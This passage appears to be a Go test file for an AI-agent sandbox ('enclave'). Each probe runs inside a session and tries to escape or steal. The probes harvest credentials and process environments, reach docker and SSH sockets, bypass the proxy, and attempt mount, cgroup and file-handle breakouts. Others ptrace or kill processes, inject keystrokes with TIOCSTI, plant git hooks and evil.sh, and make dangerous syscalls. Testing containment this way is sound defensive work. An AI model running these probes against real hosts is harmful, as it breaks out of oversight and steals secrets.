//go:build linux

package escape

// The probes: this test binary, mounted read-only at /probe/probe inside a
// session and run as "/probe/probe __probe NAME ARGS...". A probe attempts
// one attack and tries to leave whatever it gains somewhere the host can see
// it: stolen bytes go to /workspace/loot/, writes go to the host paths it was
// given, connections go to host listeners. It prints what it tried for the
// humans reading the test log, but no test believes that output: every
// verdict is taken on the host side (see escape_linux_test.go).

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

const (
	probeArg = "__probe"
	lootDir  = "/workspace/loot"
	// maxLoot bounds what one probe copies, so a probe that unexpectedly
	// sees a huge tree cannot fill the disk.
	maxLoot = 64 << 20
)

// runProbe runs the probe named by args[0] and returns the exit code.
func runProbe(args []string) int {
	if len(args) == 0 {
		fmt.Fprintln(os.Stderr, "probe: name a probe")
		return 2
	}
	p, ok := probes[args[0]]
	if !ok {
		fmt.Fprintf(os.Stderr, "probe: unknown probe %q\n", args[0])
		return 2
	}
	os.MkdirAll(lootDir, 0o755)
	if err := p(args[1:]); err != nil {
		fmt.Fprintf(os.Stderr, "probe %s: %v\n", args[0], err)
		return 1
	}
	return 0
}

func say(format string, a ...any) { fmt.Printf(format+"\n", a...) }

var lootN int
var lootBytes int64

// keep copies stolen bytes into the workspace for the host to find.
func keep(from string, data []byte) {
	if len(data) == 0 || lootBytes > maxLoot {
		return
	}
	lootN++
	lootBytes += int64(len(data))
	name := fmt.Sprintf("%s/%04d-%s", lootDir, lootN, strings.NewReplacer("/", "_", "\x00", "").Replace(from))
	if len(name) > 200 {
		name = name[:200]
	}
	if err := os.WriteFile(name, data, 0o644); err != nil {
		say("keep %s: %v", from, err)
	}
}

// steal reads a file, or every file below a directory, into the loot.
func steal(p string) {
	fi, err := os.Stat(p)
	if err != nil {
		say("stat %s: %v", p, err)
		return
	}
	if !fi.IsDir() {
		if !fi.Mode().IsRegular() {
			// A pipe or device (e.g. the agent's own stdout reopened
			// through /proc/self/fd) would block the read forever.
			say("skip %s: %v", p, fi.Mode().Type())
			return
		}
		b, err := readSome(p)
		say("read %s: %d bytes, err %v", p, len(b), err)
		keep(p, b)
		return
	}
	n := 0
	filepath.WalkDir(p, func(q string, d fs.DirEntry, err error) error {
		if err != nil {
			say("walk %s: %v", q, err)
			return nil
		}
		if n++; n > 2000 {
			return filepath.SkipAll
		}
		if d.Type().IsRegular() {
			b, _ := readSome(q)
			keep(q, b)
		}
		return nil
	})
	say("walked %s: %d entries", p, n)
}

func readSome(p string) ([]byte, error) {
	f, err := os.Open(p)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return io.ReadAll(io.LimitReader(f, 1<<20))
}

// secretLike are strings an attacker greps for.
var secretLike = [][]byte{[]byte("CANARY"), []byte("PRIVATE KEY"), []byte("aws_secret_access_key"), []byte("_API_KEY"), []byte("TOKEN")}

func looksSecret(b []byte) bool {
	for _, s := range secretLike {
		if bytes.Contains(b, s) {
			return true
		}
	}
	return false
}

// hunt walks the visible filesystem for anything that looks secret.
func hunt(roots []string) {
	skip := map[string]bool{"/proc": true, "/sys": true, "/dev": true, "/usr": true, "/opt": true, "/workspace": true, "/probe": true}
	for _, root := range roots {
		filepath.WalkDir(root, func(q string, d fs.DirEntry, err error) error {
			if err != nil {
				return nil
			}
			if d.IsDir() && skip[q] && q != root {
				return filepath.SkipDir
			}
			if d.Type().IsRegular() {
				if b, err := readSome(q); err == nil && looksSecret(b) {
					keep(q, b)
				}
			}
			return nil
		})
	}
}

func pids() []int {
	ents, _ := os.ReadDir("/proc")
	var out []int
	for _, e := range ents {
		if n, err := strconv.Atoi(e.Name()); err == nil {
			out = append(out, n)
		}
	}
	return out
}

// tryWrite attempts every way of changing a host path it knows.
func tryWrite(p, content string) {
	for _, flag := range []int{os.O_WRONLY | os.O_APPEND, os.O_WRONLY | os.O_TRUNC, os.O_WRONLY | os.O_CREATE | os.O_EXCL} {
		f, err := os.OpenFile(p, flag, 0o644)
		if err != nil {
			say("open %s flags %#x: %v", p, flag, err)
			continue
		}
		_, err = f.WriteString(content)
		f.Close()
		say("write %s flags %#x: %v", p, flag, err)
	}
	say("mkdir %s.d: %v", p, os.Mkdir(p+".d", 0o755))
	say("symlink %s.l: %v", p, os.Symlink("/workspace", p+".l"))
	os.WriteFile("/workspace/.rename-src", []byte(content), 0o644)
	say("rename onto %s: %v", p, os.Rename("/workspace/.rename-src", p))
	os.Remove("/workspace/.rename-src")
	say("chmod %s: %v", p, os.Chmod(p, 0o777))
	say("truncate %s: %v", p, os.Truncate(p, 0))
}

func dialCount(network, addr string) {
	c, err := net.DialTimeout(network, addr, 2*time.Second)
	if err != nil {
		say("dial %s %s: %v", network, addr, err)
		return
	}
	n, err := c.Write([]byte("PROBE-HELLO\n"))
	say("dial %s %s: connected, wrote %d, %v", network, addr, n, err)
	c.Close()
}

// dnsQuery builds a query for name, type A.
func dnsQuery(name string) []byte {
	var b bytes.Buffer
	b.Write([]byte{0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0})
	for _, l := range strings.Split(strings.Trim(name, "."), ".") {
		b.WriteByte(byte(len(l)))
		b.WriteString(l)
	}
	b.Write([]byte{0, 0, 1, 0, 1})
	return b.Bytes()
}

func proxyClient(proxy string) *http.Client {
	tr := &http.Transport{DisableKeepAlives: true}
	if proxy != "" {
		u, _ := url.Parse(proxy)
		tr.Proxy = http.ProxyURL(u)
	}
	return &http.Client{Transport: tr, Timeout: 5 * time.Second}
}

func httpGet(c *http.Client, u string) {
	resp, err := c.Get(u)
	if err != nil {
		say("GET %s: %v", u, err)
		return
	}
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 300))
	resp.Body.Close()
	say("GET %s: %s %q", u, resp.Status, b)
}

// rawProxy sends a hand-written request to the proxy and reports the answer.
func rawProxy(addr, req string) {
	c, err := net.DialTimeout("tcp", addr, 2*time.Second)
	if err != nil {
		say("proxy dial: %v", err)
		return
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(4 * time.Second))
	io.WriteString(c, req)
	line, _ := bufio.NewReader(c).ReadString('\n')
	say("proxy %q -> %q", firstLine(req), line)
	if strings.Contains(line, " 200") && strings.HasPrefix(req, "CONNECT") {
		io.WriteString(c, "GET / HTTP/1.1\r\nHost: x\r\n\r\n")
		time.Sleep(200 * time.Millisecond)
	}
}

func firstLine(s string) string { l, _, _ := strings.Cut(s, "\r\n"); return l }

// marker leaves proof of a successful attack in the workspace: used only
// where a success has no other side effect the host could observe.
func marker(name string) {
	os.WriteFile("/workspace/ESCAPED-"+name, []byte(name), 0o644)
}

func rawSyscallOK(trap uintptr, a ...uintptr) (uintptr, bool) {
	var args [6]uintptr
	copy(args[:], a)
	r, _, e := unix.Syscall6(trap, args[0], args[1], args[2], args[3], args[4], args[5])
	return r, e == 0
}

var probes = map[string]func(args []string) error{
	// steal PATH...: read the named host paths and the HOME-relative guesses.
	"steal": func(args []string) error {
		for _, p := range args {
			steal(p)
		}
		return nil
	},
	// hunt ROOT...: grep the whole visible filesystem for secrets.
	"hunt": func(args []string) error {
		if len(args) == 0 {
			args = []string{"/"}
		}
		hunt(args)
		return nil
	},
	// env: the agent's environment and every visible process's environ and
	// argv, PID 1 included.
	"env": func(args []string) error {
		keep("self-environ", []byte(strings.Join(os.Environ(), "\n")))
		for _, pid := range pids() {
			for _, f := range []string{"environ", "cmdline"} {
				b, err := os.ReadFile(fmt.Sprintf("/proc/%d/%s", pid, f))
				say("/proc/%d/%s: %d bytes, %v", pid, f, len(b), err)
				keep(fmt.Sprintf("proc-%d-%s", pid, f), b)
			}
		}
		return nil
	},
	// procpid PID...: reach host processes by their host pid number.
	"procpid": func(args []string) error {
		for _, a := range args {
			for _, f := range []string{"environ", "cmdline", "status", "maps"} {
				b, err := os.ReadFile("/proc/" + a + "/" + f)
				say("/proc/%s/%s: %d bytes, %v", a, f, len(b), err)
				keep("host-"+a+"-"+f, b)
			}
			b, err := os.ReadFile("/proc/" + a + "/root/etc/hostname")
			say("/proc/%s/root: %d bytes, %v", a, len(b), err)
		}
		return nil
	},
	// write CONTENT PATH...: change host paths directly.
	"write": func(args []string) error {
		for _, p := range args[1:] {
			tryWrite(p, args[0])
		}
		return nil
	},
	// viaproc CONTENT HOSTPATH...: reach host paths through /proc/*/root and
	// /proc/*/cwd of every visible process, and through the host's pids.
	"viaproc": func(args []string) error {
		content, paths := args[0], args[1:]
		var rels []string
		for _, p := range paths {
			rels = append(rels, strings.TrimPrefix(p, "/"))
		}
		prefixes := []string{"/proc/self/root", "/proc/thread-self/root", "/proc/1/root", "/proc/self/cwd/.."}
		for _, pid := range pids() {
			prefixes = append(prefixes, fmt.Sprintf("/proc/%d/root", pid), fmt.Sprintf("/proc/%d/cwd", pid))
		}
		for _, pre := range prefixes {
			for _, r := range rels {
				tryWrite(pre+"/"+r, content)
				b, err := readSome(pre + "/" + r)
				if err == nil {
					keep(pre+"/"+r, b)
				}
			}
			os.WriteFile(pre+"/PWNED-viaproc", []byte(content), 0o644)
		}
		return nil
	},
	// cwdof CONTENT PID...: write into the working directory of host pids.
	"cwdof": func(args []string) error {
		for _, pid := range args[1:] {
			p := "/proc/" + pid + "/cwd/PWNED-cwd"
			say("write %s: %v", p, os.WriteFile(p, []byte(args[0]), 0o644))
			steal("/proc/" + pid + "/cwd")
		}
		return nil
	},
	// dial NETWORK ADDR...: connect straight to host listeners.
	"dial": func(args []string) error {
		for _, a := range args[1:] {
			dialCount(args[0], a)
		}
		return nil
	},
	// udp ADDR...: send datagrams straight to host listeners.
	"udp": func(args []string) error {
		for _, a := range args {
			for _, nw := range []string{"udp", "udp4", "udp6"} {
				c, err := net.Dial(nw, a)
				if err != nil {
					say("udp %s %s: %v", nw, a, err)
					continue
				}
				for range 3 {
					_, err = c.Write([]byte("PROBE-DATAGRAM"))
				}
				say("udp %s %s: %v", nw, a, err)
				c.Close()
			}
			// sendto on an unconnected socket, in case connect is filtered.
			if ap, err := net.ResolveUDPAddr("udp", a); err == nil {
				if pc, err := net.ListenPacket("udp", ":0"); err == nil {
					_, err = pc.WriteTo([]byte("PROBE-DATAGRAM"), ap)
					say("sendto %s: %v", a, err)
					pc.Close()
				}
			}
		}
		return nil
	},
	// dns ADDR NAME: query a resolver directly over UDP and TCP.
	"dns": func(args []string) error {
		q := dnsQuery(args[1])
		if c, err := net.Dial("udp", args[0]); err == nil {
			c.Write(q)
			c.SetReadDeadline(time.Now().Add(time.Second))
			buf := make([]byte, 512)
			n, err := c.Read(buf)
			say("dns udp %s: %d bytes, %v", args[0], n, err)
			c.Close()
		} else {
			say("dns udp %s: %v", args[0], err)
		}
		if c, err := net.DialTimeout("tcp", args[0], time.Second); err == nil {
			var l [2]byte
			binary.BigEndian.PutUint16(l[:], uint16(len(q)))
			c.Write(append(l[:], q...))
			c.Close()
			say("dns tcp %s: sent", args[0])
		} else {
			say("dns tcp %s: %v", args[0], err)
		}
		// And the system resolver, in case it was pointed at the host.
		addrs, err := net.DefaultResolver.LookupHost(context.Background(), args[1])
		say("lookup %s: %v %v", args[1], addrs, err)
		return nil
	},
	// proxyget URL...: HTTP through the proxy variables the sandbox sets.
	"proxyget": func(args []string) error {
		// Explicitly through HTTP_PROXY: Go's ProxyFromEnvironment would
		// skip the proxy for loopback names and go direct.
		c := proxyClient(os.Getenv("HTTP_PROXY"))
		for _, u := range args {
			httpGet(c, u)
		}
		return nil
	},
	// proxyraw REQ...: hand-written requests to the proxy (\r\n escaped as
	// the two characters \n in the argument).
	"proxyraw": func(args []string) error {
		addr := strings.TrimPrefix(os.Getenv("HTTP_PROXY"), "http://")
		for _, r := range args {
			rawProxy(addr, strings.ReplaceAll(r, `\n`, "\r\n"))
		}
		return nil
	},
	// noproxy URL...: unset every proxy variable and go direct, with Go and
	// with curl and wget if the image has them.
	"noproxy": func(args []string) error {
		for _, v := range []string{"HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"} {
			os.Unsetenv(v)
		}
		os.Setenv("NO_PROXY", "*")
		c := proxyClient("")
		for _, u := range args {
			httpGet(c, u)
			for _, tool := range [][]string{{"curl", "-sS", "-m", "3", "--noproxy", "*", u}, {"wget", "-q", "-T", "3", "-O", "-", u}} {
				if p, err := exec.LookPath(tool[0]); err == nil {
					out, err := exec.Command(p, tool[1:]...).CombinedOutput()
					say("%s: %v %q", tool[0], err, out)
				}
			}
		}
		return nil
	},
	// unix PATH...: connect to host unix sockets by path; "@name" is abstract.
	"unix": func(args []string) error {
		cands := append([]string{}, args...)
		if s := os.Getenv("SSH_AUTH_SOCK"); s != "" {
			cands = append(cands, s)
		}
		cands = append(cands, "/var/run/docker.sock", "/run/docker.sock", os.Getenv("HOME")+"/.docker/run/docker.sock")
		for _, p := range cands {
			name := p
			if strings.HasPrefix(p, "@") {
				name = "\x00" + p[1:]
			}
			c, err := net.DialTimeout("unix", name, 2*time.Second)
			if err != nil {
				say("unix %s: %v", p, err)
				continue
			}
			c.Write([]byte("GET /containers/json HTTP/1.0\r\n\r\n"))
			c.Close()
			say("unix %s: connected", p)
		}
		return nil
	},
	// ping ADDR MARKER: ICMP echo with the marker as payload, by ping
	// socket, raw socket and the ping binary.
	"ping": func(args []string) error {
		addr, mark := args[0], args[1]
		msg := []byte{8, 0, 0, 0, 0x13, 0x37, 0, 1}
		msg = append(msg, mark...)
		cs := icmpChecksum(msg)
		msg[2], msg[3] = byte(cs>>8), byte(cs)
		for _, typ := range []int{unix.SOCK_DGRAM, unix.SOCK_RAW} {
			fd, err := unix.Socket(unix.AF_INET, typ, unix.IPPROTO_ICMP)
			if err != nil {
				say("icmp socket type %d: %v", typ, err)
				continue
			}
			ip := net.ParseIP(addr).To4()
			sa := &unix.SockaddrInet4{}
			copy(sa.Addr[:], ip)
			say("icmp sendto type %d: %v", typ, unix.Sendto(fd, msg, 0, sa))
			unix.Close(fd)
		}
		if p, err := exec.LookPath("ping"); err == nil {
			out, err := exec.Command(p, "-c", "1", "-W", "1", "-p", hex.EncodeToString([]byte(mark))[:16], addr).CombinedOutput()
			say("ping: %v %q", err, out)
		}
		return nil
	},
	// fds: use every inherited descriptor, and those of PID 1, as a way out.
	"fds": func(args []string) error {
		for _, base := range []string{"/proc/self/fd", "/proc/1/fd"} {
			ents, err := os.ReadDir(base)
			say("list %s: %d, %v", base, len(ents), err)
			for _, e := range ents {
				p := base + "/" + e.Name()
				t, _ := os.Readlink(p)
				say("%s -> %s", p, t)
				steal(p)
				os.WriteFile(p+"/PWNED-fd", []byte("fd"), 0o644)
			}
		}
		// Take descriptors out of PID 1 (enclave's init) directly.
		if pfd, err := unix.PidfdOpen(1, 0); err == nil {
			for n := 0; n < 64; n++ {
				fd, err := unix.PidfdGetfd(pfd, n, 0)
				if err == nil {
					say("pidfd_getfd 1:%d -> %d", n, fd)
				} else if n < 3 {
					say("pidfd_getfd 1:%d: %v", n, err)
				}
			}
		}
		// Descriptors not listed (a racing close): try the numbers anyway.
		for fd := 3; fd < 256; fd++ {
			var st unix.Stat_t
			if unix.Fstat(fd, &st) != nil || st.Mode&unix.S_IFMT != unix.S_IFDIR {
				continue
			}
			say("fd %d is a directory", fd)
			if nfd, err := unix.Openat(fd, "PWNED-openat", unix.O_CREAT|unix.O_WRONLY, 0o644); err == nil {
				unix.Write(nfd, []byte("openat"))
				unix.Close(nfd)
			}
			if unix.Fchdir(fd) == nil {
				steal(".")
				os.WriteFile("PWNED-fchdir", []byte("fchdir"), 0o644)
				for range 10 {
					os.Chdir("..")
				}
				hunt([]string{"."})
				os.Chdir("/workspace")
			}
		}
		return nil
	},
	// keys SERIAL...: read host keys by serial and search every keyring.
	"keys": func(args []string) error {
		for _, a := range args {
			id, _ := strconv.Atoi(a)
			buf := make([]byte, 4096)
			n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0)
			say("keyctl read %d: %d %v", id, n, err)
			if err == nil && n > 0 {
				keep("key-"+a, buf[:min(n, len(buf))])
			}
		}
		for _, ring := range []int{unix.KEY_SPEC_SESSION_KEYRING, unix.KEY_SPEC_USER_KEYRING, unix.KEY_SPEC_USER_SESSION_KEYRING, unix.KEY_SPEC_PROCESS_KEYRING} {
			id, err := unix.KeyctlSearch(ring, "user", "enclave-escape-host", 0)
			say("keyctl search ring %d: %d %v", ring, id, err)
			if err == nil {
				buf := make([]byte, 4096)
				if n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0); err == nil {
					keep("key-search", buf[:min(n, len(buf))])
				}
			}
		}
		_, err := unix.KeyctlJoinSessionKeyring("_ses")
		say("join _ses: %v", err)
		id, err := unix.AddKey("user", "enclave-escape-planted", []byte("planted"), unix.KEY_SPEC_USER_KEYRING)
		say("add_key: %d %v", id, err)
		if err == nil {
			marker("add_key")
		}
		steal("/proc/keys")
		steal("/proc/key-users")
		return nil
	},
	// sys: copy what is visible of /sys.
	"sys": func(args []string) error {
		var b strings.Builder
		for _, d := range []string{"/sys", "/sys/class/net", "/sys/fs/cgroup", "/sys/kernel"} {
			ents, err := os.ReadDir(d)
			say("list %s: %d %v", d, len(ents), err)
			for _, e := range ents {
				fmt.Fprintln(&b, e.Name())
			}
		}
		os.WriteFile(lootDir+"/sys.txt", []byte(b.String()), 0o644)
		return nil
	},
	// suid PROGRAM TARGET: run a setuid-root program and, from it, try to
	// become root and write a root-owned host file.
	"suid": func(args []string) error {
		out, err := exec.Command(args[0], probeArg, "suid-child", args[1]).CombinedOutput()
		say("exec %s: %v %s", args[0], err, out)
		return nil
	},
	"suid-child": func(args []string) error {
		say("uid %d euid %d", os.Getuid(), os.Geteuid())
		say("setuid(0): %v", syscall.Setuid(0))
		say("setresuid(0): %v", syscall.Setresuid(0, 0, 0))
		tryWrite(args[0], "PWNED-suid")
		return nil
	},
	// userns: make a new user namespace by every route, then act as root
	// in it.
	"userns": func(args []string) error {
		runtime.LockOSThread()
		if err := unix.Unshare(unix.CLONE_NEWUSER); err == nil {
			marker("unshare-newuser")
		} else {
			say("unshare(CLONE_NEWUSER): %v", err)
		}
		cmd := exec.Command("/probe/probe", probeArg, "mark", "clone-newuser")
		cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER, UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}}}
		say("clone(CLONE_NEWUSER): %v", cmd.Run())
		if p, err := exec.LookPath("unshare"); err == nil {
			out, err := exec.Command(p, "-U", "-r", "/probe/probe", probeArg, "mark", "unshare-binary").CombinedOutput()
			say("unshare -U -r: %v %s", err, out)
		}
		return nil
	},
	"mark": func(args []string) error { marker(args[0]); return nil },
	// mount RODIR: make a read-only host mount writable and write into it.
	"mount": func(args []string) error {
		ro := args[0]
		runtime.LockOSThread()
		say("remount rw: %v", unix.Mount("", ro, "", unix.MS_REMOUNT|unix.MS_BIND, ""))
		say("write after remount: %v", os.WriteFile(ro+"/PWNED-remount", []byte("x"), 0o644))
		os.MkdirAll("/workspace/m", 0o755)
		say("bind: %v", unix.Mount(ro, "/workspace/m", "", unix.MS_BIND, ""))
		say("write via bind: %v", os.WriteFile("/workspace/m/PWNED-bind", []byte("x"), 0o644))
		say("tmpfs over ro: %v", unix.Mount("none", ro, "tmpfs", 0, ""))
		say("umount ro: %v", unix.Unmount(ro, unix.MNT_DETACH))
		say("write after umount: %v", os.WriteFile(ro+"/PWNED-umount", []byte("x"), 0o644))
		if fd, err := unix.OpenTree(unix.AT_FDCWD, ro, unix.OPEN_TREE_CLONE); err == nil {
			attr := unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
			say("mount_setattr: %v", unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, &attr))
			say("move_mount: %v", unix.MoveMount(fd, "", unix.AT_FDCWD, "/workspace/m", unix.MOVE_MOUNT_F_EMPTY_PATH))
			os.WriteFile("/workspace/m/PWNED-open_tree", []byte("x"), 0o644)
		} else {
			say("open_tree: %v", err)
		}
		if fd, err := unix.Fsopen("cgroup", 0); err == nil {
			say("fsopen cgroup: ok %d", fd)
		}
		os.MkdirAll("/tmp/cg", 0o755)
		if unix.Mount("cgroup", "/tmp/cg", "cgroup", 0, "memory") == nil {
			os.WriteFile("/tmp/cg/release_agent", []byte("/workspace/pwn"), 0o644)
		}
		say("mount proc: %v", unix.Mount("proc", "/tmp", "proc", 0, ""))
		say("chroot: %v", unix.Chroot("/workspace"))
		return nil
	},
	// ptrace PID...: attach to and signal processes by host pid, and to
	// every process visible.
	"ptrace": func(args []string) error {
		runtime.LockOSThread()
		targets := append([]string{}, args...)
		for _, p := range pids() {
			targets = append(targets, strconv.Itoa(p))
		}
		for _, a := range targets {
			pid, _ := strconv.Atoi(a)
			if pid == os.Getpid() {
				continue
			}
			say("ptrace seize %d: %v", pid, unix.PtraceSeize(pid))
			say("ptrace attach %d: %v", pid, unix.PtraceAttach(pid))
			f, err := os.OpenFile(fmt.Sprintf("/proc/%d/mem", pid), os.O_RDWR, 0)
			say("open /proc/%d/mem: %v", pid, err)
			if err == nil {
				f.Close()
			}
		}
		return nil
	},
	// kill PID...: signal host pids, everything (-1), and pidfds.
	"kill": func(args []string) error {
		for _, a := range args {
			pid, _ := strconv.Atoi(a)
			say("kill %d: %v", pid, unix.Kill(pid, unix.SIGKILL))
			say("tgkill %d: %v", pid, unix.Tgkill(pid, pid, unix.SIGKILL))
			if fd, err := unix.PidfdOpen(pid, 0); err == nil {
				say("pidfd_send_signal %d: %v", pid, unix.PidfdSendSignal(fd, unix.SIGKILL, nil, 0))
			} else {
				say("pidfd_open %d: %v", pid, err)
			}
			say("kill pgrp %d: %v", pid, unix.Kill(-pid, unix.SIGKILL))
		}
		// A new session so kill(-1) spares this probe's own parent chain.
		say("kill -1 SIGSTOP: %v", unix.Kill(-1, unix.SIGSTOP))
		say("kill -1 SIGKILL: %v", unix.Kill(-1, unix.SIGKILL))
		return nil
	},
	// syscalls: the dangerous system calls an agent never needs; a marker
	// is left for each that succeeds.
	"syscalls": func(args []string) error {
		runtime.LockOSThread()
		attr := [128]byte{}
		// BPF_PROG_LOAD of "r0 = 0; exit" as a socket filter.
		insns := []uint64{0x00000000000000b7, 0x0000000000000095}
		lic := []byte("GPL\x00")
		binary.LittleEndian.PutUint32(attr[0:], 1) // BPF_PROG_TYPE_SOCKET_FILTER
		binary.LittleEndian.PutUint32(attr[4:], uint32(len(insns)))
		binary.LittleEndian.PutUint64(attr[8:], uint64(uintptr(unsafe.Pointer(&insns[0]))))
		binary.LittleEndian.PutUint64(attr[16:], uint64(uintptr(unsafe.Pointer(&lic[0]))))
		if _, ok := rawSyscallOK(unix.SYS_BPF, 5, uintptr(unsafe.Pointer(&attr)), 128); ok {
			marker("bpf-prog-load")
		}
		mattr := [64]byte{0: 2, 4: 4, 8: 4, 12: 1}
		if _, ok := rawSyscallOK(unix.SYS_BPF, 0, uintptr(unsafe.Pointer(&mattr)), 64); ok {
			marker("bpf-map-create")
		}
		var params [120]byte
		if fd, ok := rawSyscallOK(unix.SYS_IO_URING_SETUP, 4, uintptr(unsafe.Pointer(&params))); ok && int(fd) >= 0 {
			marker("io_uring_setup")
		}
		pattr := unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Config: unix.PERF_COUNT_SW_CPU_CLOCK, Size: uint32(unsafe.Sizeof(unix.PerfEventAttr{}))}
		if _, err := unix.PerfEventOpen(&pattr, 0, -1, -1, 0); err == nil {
			marker("perf_event_open")
		}
		if _, ok := rawSyscallOK(unix.SYS_USERFAULTFD, 0); ok {
			marker("userfaultfd")
		}
		if _, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false); err == nil {
			marker("keyctl")
		}
		if _, ok := rawSyscallOK(unix.SYS_KEXEC_FILE_LOAD, ^uintptr(0), ^uintptr(0), 0, 0, 0x2); ok {
			marker("kexec_file_load")
		}
		if _, ok := rawSyscallOK(unix.SYS_INIT_MODULE, 0, 0, 0); ok {
			marker("init_module")
		}
		if _, ok := rawSyscallOK(unix.SYS_FINIT_MODULE, 0, 0, 0); ok {
			marker("finit_module")
		}
		if fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0); err == nil {
			unix.Close(fd)
			marker("af_packet")
		}
		if fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_AUDIT); err == nil {
			unix.Close(fd)
		}
		if unix.Sethostname([]byte("pwned")) == nil {
			marker("sethostname")
		}
		if unix.Acct("/workspace/acct") == nil {
			marker("acct")
		}
		if _, ok := rawSyscallOK(unix.SYS_SWAPOFF, uintptr(unsafe.Pointer(&[]byte("/workspace\x00")[0]))); ok {
			marker("swapoff")
		}
		return nil
	},
	// handle TYPE HEX: open a host file by its file handle (the "shocker"
	// escape), relative to the workspace mount.
	"handle": func(args []string) error {
		typ, _ := strconv.Atoi(args[0])
		raw, _ := hex.DecodeString(args[1])
		for _, mnt := range []string{"/workspace", "/tmp", "/", "/home/agent"} {
			mfd, err := unix.Open(mnt, unix.O_RDONLY|unix.O_DIRECTORY, 0)
			if err != nil {
				continue
			}
			fd, err := unix.OpenByHandleAt(mfd, unix.NewFileHandle(int32(typ), raw), unix.O_RDONLY)
			say("open_by_handle_at via %s: %v", mnt, err)
			if err == nil {
				b := make([]byte, 4096)
				n, _ := unix.Read(fd, b)
				if n > 0 {
					keep("handle", b[:n])
				}
			}
			unix.Close(mfd)
		}
		return nil
	},
	// sysctl: change host-wide kernel settings through /proc/sys.
	"sysctl": func(args []string) error {
		for _, kv := range args {
			p, v, _ := strings.Cut(kv, "=")
			say("write %s: %v", p, os.WriteFile(p, []byte(v), 0o644))
		}
		return nil
	},
	// clock: move the host's clock a year ahead.
	"clock": func(args []string) error {
		tv := unix.NsecToTimeval(time.Now().Add(365 * 24 * time.Hour).UnixNano())
		say("settimeofday: %v", unix.Settimeofday(&tv))
		ts := unix.NsecToTimespec(time.Now().Add(365 * 24 * time.Hour).UnixNano())
		say("clock_settime: %v", unix.ClockSettime(unix.CLOCK_REALTIME, &ts))
		return nil
	},
	// tiocsti TEXT: push TEXT into the input of every terminal the agent
	// holds, as if the user had typed it.
	"tiocsti": func(args []string) error {
		fds := []int{0, 1, 2}
		if fd, err := unix.Open("/dev/tty", unix.O_RDWR, 0); err == nil {
			fds = append(fds, fd)
		}
		for _, fd := range fds {
			var failed error
			for _, c := range []byte(args[0]) {
				c := c
				if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); e != 0 {
					failed = e
					break
				}
			}
			say("TIOCSTI fd %d: %v", fd, failed)
		}
		return nil
	},
	// githooks HOSTMARK: plant every way the agent's .git can run code when
	// enclave touches the copy on the host; each writes HOSTMARK.
	"githooks": func(args []string) error {
		cmd := "#!/bin/sh\necho hook-ran > " + args[0] + "\n"
		os.MkdirAll("/workspace/.git/hooks", 0o755)
		hooks := []string{"post-checkout", "pre-commit", "post-commit", "pre-auto-gc", "post-index-change", "reference-transaction", "fsmonitor-watchman", "pre-push", "post-merge", "prepare-commit-msg"}
		for _, h := range hooks {
			say("hook %s: %v", h, os.WriteFile("/workspace/.git/hooks/"+h, []byte(cmd), 0o755))
		}
		os.WriteFile("/workspace/evil.sh", []byte(cmd), 0o755)
		f, err := os.OpenFile("/workspace/.git/config", os.O_APPEND|os.O_WRONLY, 0)
		if err == nil {
			fmt.Fprintf(f, "[core]\n\tfsmonitor = /workspace/evil.sh\n\tsshCommand = /workspace/evil.sh\n\tpager = /workspace/evil.sh\n\thooksPath = /workspace/.git/hooks\n")
			fmt.Fprintf(f, "[filter \"x\"]\n\tclean = /workspace/evil.sh\n\tsmudge = /workspace/evil.sh\n\tprocess = /workspace/evil.sh\n")
			fmt.Fprintf(f, "[diff \"x\"]\n\ttextconv = /workspace/evil.sh\n\tcommand = /workspace/evil.sh\n")
			fmt.Fprintf(f, "[include]\n\tpath = /workspace/evil.cfg\n")
			f.Close()
		}
		if len(args) > 1 {
			// Point the copy's object store at host directories, so a
			// host-side git run on the copy would read them.
			alt := strings.Join(args[1:], "\n") + "\n"
			say("alternates: %v", os.WriteFile("/workspace/.git/objects/info/alternates", []byte(alt), 0o644))
		}
		os.WriteFile("/workspace/.gitattributes", []byte("* filter=x diff=x\n"), 0o644)
		os.WriteFile("/workspace/changed.txt", []byte("make the diff non-empty\n"), 0o644)
		return nil
	},
	// symlinks HOSTPATH...: leave symlinks (and a FIFO) in the copy that
	// point at host secrets, where enclave's host side reads the copy.
	"symlinks": func(args []string) error {
		for i, p := range args {
			say("symlink: %v", os.Symlink(p, fmt.Sprintf("/workspace/link%d", i)))
			os.Remove("/workspace/README.md")
			say("replace tracked file: %v", os.Symlink(p, "/workspace/README.md"))
		}
		if len(args) > 0 {
			dir := filepath.Dir(args[0])
			say("dir symlink: %v", os.Symlink(dir, "/workspace/linkdir"))
			os.RemoveAll("/workspace/.git/refs/heads")
			say(".git symlink: %v", os.Symlink(dir, "/workspace/.git/refs/heads"))
		}
		say("fifo: %v", unix.Mkfifo("/workspace/fifo", 0o644))
		say("device: %v", unix.Mknod("/workspace/sda", unix.S_IFBLK|0o666, int(unix.Mkdev(8, 0))))
		say("device: %v", unix.Mknod("/workspace/mem", unix.S_IFCHR|0o666, int(unix.Mkdev(1, 1))))
		return nil
	},
	// execrec TOKEN: run programs by paths the exec record might miss;
	// each creates /workspace/ran-TOKEN-N, so the host can match every
	// program that ran against the audit log.
